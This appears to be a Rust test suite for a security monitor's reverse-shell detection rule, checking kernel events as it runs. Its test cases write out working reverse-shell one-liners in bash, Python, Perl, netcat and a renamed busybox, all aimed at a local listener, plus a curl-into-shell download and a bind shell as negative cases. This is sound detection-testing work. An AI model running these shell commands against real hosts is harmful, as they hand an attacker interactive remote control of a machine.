//! Reverse shells in five ways, and what only looks like one: decided from the kernel's records alone.
use crate::rig::{Rig, below, calm, rig, start};
use seawall_model::event::{Event, EventKind};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Child;
use std::time::Duration;

/// The detection of reverse shells in `content/`.
const DETECTION: &str = "SW-D-0001";

/// What the attacker's side types; the answer proves that a shell was there.
const TYPED: &[u8] = b"echo made-$((6*7))\nexit\n";
const ANSWER: &str = "made-42";

fn talk(mut stream: TcpStream) -> String {
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    stream.write_all(TYPED).unwrap();
    let mut heard = Vec::new();
    let mut buffer = [0; 1024];
    while !String::from_utf8_lossy(&heard).contains(ANSWER) {
        match stream.read(&mut buffer) {
            Ok(0) | Err(_) => break,
            Ok(count) => heard.extend_from_slice(&buffer[..count]),
        }
    }
    String::from_utf8_lossy(&heard).into_owned()
}

fn end(mut child: Child) {
    let _already_gone = child.kill();
    child.wait().unwrap();
}

/// An exec whose streams are a remote's, or a connect that closes a loop through a shell.
fn is_reverse(event: &Event) -> bool {
    let stdio = &event.process.stdio;
    let shell = |name: &String| ["sh", "bash", "dash"].contains(&name.as_str());
    match event.kind {
        EventKind::Exec => stdio.remote == Some(true),
        EventKind::Connect => stdio.loops && stdio.peers.iter().any(shell),
        _ => false,
    }
}

/// `script` connects to `$PORT` and gives it a shell; returns the deciding event.
#[track_caller]
fn check_shell(rig: &Rig, script: &str) -> Event {
    let _calm = calm();
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let child = start(&script.replace("$PORT", &port.to_string()));
    let pid = child.id();
    let (stream, _) = server.accept().unwrap();
    let heard = talk(stream);
    assert!(heard.contains(ANSWER), "no shell answered: {heard:?}");
    let found = rig.within(Duration::from_secs(2), |event| below(event, pid) && is_reverse(event));
    let seen = || {
        let events = rig.events();
        let own = events.iter().filter(|event| below(event, pid) && event.kind != EventKind::Fork);
        own.map(|event| {
            format!("{:?} {} {:?}\n", event.kind, event.process.name, event.process.stdio)
        })
        .collect::<String>()
    };
    let event = found.unwrap_or_else(|| panic!("not recognised:\n{}", seen()));
    end(child);
    let fired = rig.fired(DETECTION, pid);
    assert_eq!(fired.location.node.as_deref(), Some("test-node"));
    assert!(!fired.why.is_empty() && !fired.tactics.is_empty(), "{fired:?}");
    event
}

#[test]
fn bash_over_dev_tcp() {
    let Some(rig) = rig("bash_over_dev_tcp") else { return };
    let event = check_shell(rig, "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1; :");
    assert_eq!(event.process.args, ["bash", "-i"]);
    let route = event.process.stdio.route.clone().unwrap();
    assert!(route.starts_with("stdin ← 127.0.0.1:"), "{route}");
}

#[test]
fn python_pty_over_duplicated_socket() {
    let Some(rig) = rig("python_pty_over_duplicated_socket") else { return };
    let event = check_shell(
        rig,
        "python3 -c \"import socket,os,pty
s=socket.socket();s.connect(('127.0.0.1',$PORT))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
pty.spawn('/bin/sh')\"; :",
    );
    assert_eq!(event.process.name, "sh");
    let route = event.process.stdio.route.clone().unwrap();
    assert!(route.contains("terminal ← python3"), "{route}");
}

#[test]
fn perl_exec() {
    let Some(rig) = rig("perl_exec") else { return };
    check_shell(
        rig,
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($PORT,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'; :",
    );
}

#[test]
fn netcat_with_a_fifo() {
    let Some(rig) = rig("netcat_with_a_fifo") else { return };
    let folder = tempfile::tempdir().unwrap();
    let fifo = folder.path().join("f");
    // Often, for the order in which the four processes start is the kernel's choice.
    for _ in 0..8 {
        let script = format!(
            "rm -f {0}; mkfifo {0}; cat {0} | /bin/sh -i 2>&1 | nc 127.0.0.1 $PORT > {0}",
            fifo.display()
        );
        let event = check_shell(rig, &script);
        let stdio = &event.process.stdio;
        assert!(stdio.loops, "{stdio:?}");
    }
}

#[test]
fn renamed_static_binary() {
    let Some(rig) = rig("renamed_static_binary") else { return };
    let folder = tempfile::tempdir().unwrap();
    let copy = folder.path().join("updater");
    std::fs::copy("/usr/bin/busybox", &copy).unwrap();
    check_shell(rig, &format!("exec -a busybox {} nc 127.0.0.1 $PORT -e /bin/sh", copy.display()));
}

/// What ran below `pid` must not look like a reverse shell.
#[track_caller]
fn check_silent(rig: &Rig, pid: u32) {
    std::thread::sleep(Duration::from_millis(300));
    let events = rig.events();
    let wrong = events.iter().find(|event| below(event, pid) && is_reverse(event));
    assert!(wrong.is_none(), "{wrong:?}");
    assert_eq!(rig.firings(DETECTION, pid), []);
    assert!(
        events.iter().any(|event| below(event, pid) && event.kind == EventKind::Exec),
        "nothing was seen at all"
    );
}

#[test]
fn terminal_without_connection_is_none() {
    let Some(rig) = rig("terminal_without_connection_is_none") else { return };
    let child = start("python3 -c \"import pty;pty.spawn(['/bin/sh','-c','id;echo hello|cat'])\"");
    let pid = child.id();
    child.wait_with_output().unwrap();
    check_silent(rig, pid);
}

#[test]
fn download_into_a_pipe_is_none() {
    let Some(rig) = rig("download_into_a_pipe_is_none") else { return };
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let serve = std::thread::spawn(move || {
        let (mut stream, _) = server.accept().unwrap();
        let mut request = [0; 1024];
        let _count = stream.read(&mut request).unwrap();
        stream.write_all(b"HTTP/1.0 200 OK\r\n\r\necho hi\n").unwrap();
    });
    let child = start(&format!("curl -s http://127.0.0.1:{port}/ | sh | cat > /dev/null"));
    let pid = child.id();
    child.wait_with_output().unwrap();
    serve.join().unwrap();
    check_silent(rig, pid);
}

#[test]
fn accepted_socket_is_none() {
    let Some(rig) = rig("accepted_socket_is_none") else { return };
    let port = {
        let unused = TcpListener::bind("127.0.0.1:0").unwrap();
        unused.local_addr().unwrap().port()
    };
    let child = start(&format!("exec busybox nc -l -p {port} -e /bin/sh"));
    let pid = child.id();
    let connect = || TcpStream::connect(("127.0.0.1", port)).ok();
    let stream = (0..200).find_map(|_| {
        std::thread::sleep(Duration::from_millis(20));
        connect()
    });
    assert!(talk(stream.expect("the service listens")).contains(ANSWER));
    let shell =
        rig.wait("the service's shell", |event| below(event, pid) && event.process.name == "sh");
    assert_eq!(shell.process.stdio.remote, Some(false), "{:?}", shell.process.stdio);
    end(child);
    check_silent(rig, pid);
}
